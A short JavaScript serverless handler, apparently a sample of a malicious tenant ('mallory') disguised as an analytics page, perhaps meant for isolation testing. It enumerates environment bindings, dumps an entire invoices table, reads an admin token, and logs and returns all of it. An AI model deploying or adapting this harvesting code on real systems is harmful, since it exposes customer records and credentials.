// mallory's "analytics" page reads whatever it can reach.
export default {
  async fetch(request, env) {
    const loot = { bindings: Object.keys(env) };
    if (env.DB) loot.invoices = (await env.DB.prepare('SELECT * FROM invoices').all()).results;
    if (env.ADMIN_TOKEN) loot.token = env.ADMIN_TOKEN;
    console.log('mallory collected', JSON.stringify(loot));
    return Response.json(loot);
  },
};
